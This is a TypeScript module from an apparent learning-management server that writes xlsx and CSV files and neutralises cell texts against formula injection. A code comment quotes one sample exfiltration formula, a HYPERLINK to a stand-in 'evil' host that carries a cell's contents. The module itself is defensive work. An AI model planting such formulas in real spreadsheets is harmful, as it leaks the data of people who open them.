import type { Writable } from 'node:stream';
import type ExcelJS from 'exceljs';

/**
 * exceljs, loaded when a sheet is first read or written instead of at start: it is 0.2 s of a start's CPU and 17 MB
 * of the process at rest (docs/performance.md "Start-up and memory"), for exports and imports that most processes
 * rarely make.
 */
let loading: Promise<typeof ExcelJS> | undefined;
export const loadExcel = () => (loading ??= import('exceljs').then((m) => (m as unknown as { default: typeof ExcelJS }).default));

/*
 * THE ONE SPREADSHEET WRITER (docs/security.md "Spreadsheets"). Every sheet the product writes is written by
 * `writeSheet` (a whole sheet in memory), `streamSheet` (row by row into a stream) or `writeCsv`, and all pass every text
 * through `neutralise`: a name such as `=HYPERLINK("http://evil/?"&A1,"click")` stays a text in Excel, LibreOffice
 * and Google Sheets, however the file is opened or converted (CSV injection, OWASP). Nothing else in server/ makes a
 * workbook (server/core/excel.test.ts fails on a `new …Workbook` or `WorkbookWriter` anywhere else).
 */

/**
 * A text that a spreadsheet could take for a formula (starting with = + - @, or a tab or carriage return that some
 * programs strip first, OWASP "CSV Injection") gets a leading apostrophe: the cell shows the text and never runs it.
 * A phone number or a signed number (`+7 900 000-00-00`, `-5`: + or - followed by digits, spaces, ( ) . , + - only)
 * is left as it is: taken for a formula it is arithmetic at worst, with no function, reference or link to run.
 * Applying it twice changes nothing.
 */
export function neutralise(text: string): string {
  if (/^[+-][\d\s().,+-]*$/.test(text)) return text;
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/** A cell value as written: every text neutralised (rich text and hyperlink texts included); numbers, dates, booleans as they are. */
export function safeCell(value: ExcelJS.CellValue): ExcelJS.CellValue {
  if (typeof value === 'string') return neutralise(value);
  if (value && typeof value === 'object' && !(value instanceof Date)) {
    if ('richText' in value) return { richText: value.richText.map((r) => ({ ...r, text: neutralise(r.text) })) };
    if ('hyperlink' in value) return { ...value, text: neutralise(String(value.text ?? '')) };
    // a formula is never written from data: one that reached here is turned into its text
    if ('formula' in value || 'sharedFormula' in value) return neutralise(`=${'formula' in value ? value.formula : value.sharedFormula}`);
  }
  return value;
}

export interface SheetSpec {
  /** The worksheet's name (Excel: at most 31 characters, none of [ ] : * ? / \; `sheetName` makes one). */
  name: string;
  /** The header row, written bold. */
  header: string[];
  /** Column widths: one for all, or one per column. */
  widths?: number | number[];
  /** Keep the header row in view while scrolling. */
  frozenHeader?: boolean;
}

const widthsOf = (spec: SheetSpec) => spec.header.map((_, i) => (Array.isArray(spec.widths) ? (spec.widths[i] ?? 14) : (spec.widths ?? 14)));

/** A whole sheet in memory, as the bytes of an .xlsx: small exports (at most some ten thousand rows) and templates. */
export async function writeSheet(spec: SheetSpec, rows: Iterable<ExcelJS.CellValue[]>): Promise<Buffer> {
  const Excel = await loadExcel();
  const book = new Excel.Workbook();
  book.creator = 'Campus LMS';
  const sheet = book.addWorksheet(spec.name, spec.frozenHeader ? { views: [{ state: 'frozen', ySplit: 1 }] } : undefined);
  sheet.addRow(spec.header.map(safeCell)).font = { bold: true };
  for (const row of rows) sheet.addRow(row.map(safeCell));
  widthsOf(spec).forEach((w, i) => {
    sheet.getColumn(i + 1).width = w;
  });
  return Buffer.from(await book.xlsx.writeBuffer());
}

export interface SheetStream {
  /** Writes and commits one row; `styles[i]` (shared objects: exceljs caches a style by its object) for its cells. */
  addRow(values: ExcelJS.CellValue[], styles?: (Partial<ExcelJS.Style> | undefined)[]): void;
  /** Ends the sheet and the file; the stream is finished when it resolves. */
  finish(): Promise<void>;
}

/**
 * A sheet written row by row into `out` (exceljs' streaming writer): memory holds a batch of rows, never the file.
 * Fast compression: the file is a little larger, written twice as fast.
 */
export async function streamSheet(out: Writable, spec: SheetSpec): Promise<SheetStream> {
  const Excel = await loadExcel();
  const book = new Excel.stream.xlsx.WorkbookWriter({ stream: out, useStyles: true, useSharedStrings: false, zip: { zlib: { level: 1 } } } as Partial<ExcelJS.stream.xlsx.WorkbookStreamWriterOptions>);
  book.creator = 'Campus LMS';
  const sheet = book.addWorksheet(spec.name, spec.frozenHeader ? { views: [{ state: 'frozen', ySplit: 1 }] } : undefined);
  sheet.columns = widthsOf(spec).map((width) => ({ width }));
  const header = sheet.addRow(spec.header.map(safeCell));
  header.font = { bold: true };
  header.commit();
  return {
    addRow(values, styles) {
      const row = sheet.addRow(values.map(safeCell));
      if (styles)
        styles.forEach((st, i) => {
          if (st) row.getCell(i + 1).style = st;
        });
      row.commit();
    },
    async finish() {
      sheet.commit();
      await book.commit();
    },
  };
}

/**
 * A sheet as CSV (UTF-8 with a byte-order mark, so that Excel reads it as such; CRLF; comma-separated, a cell quoted
 * when it holds a comma, semicolon, quote or line break): the same neutralised texts as `writeSheet`.
 */
export function writeCsv(header: string[], rows: Iterable<(string | number | null | undefined)[]>): Buffer {
  const cell = (v: string | number | null | undefined) => {
    const text = typeof v === 'number' ? String(v) : neutralise(v ?? '');
    return /[",;\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
  };
  const lines = [header, ...rows].map((r) => r.map(cell).join(','));
  return Buffer.from(`\uFEFF${lines.join('\r\n')}\r\n`, 'utf8');
}

/** A worksheet name Excel accepts: at most 31 characters, none of [ ] : * ? / \. */
export const sheetName = (title: string, fallback = 'Sheet') =>
  title
    .replace(/[[\]:*?/\\]/g, ' ')
    .slice(0, 31)
    .trim() || fallback;
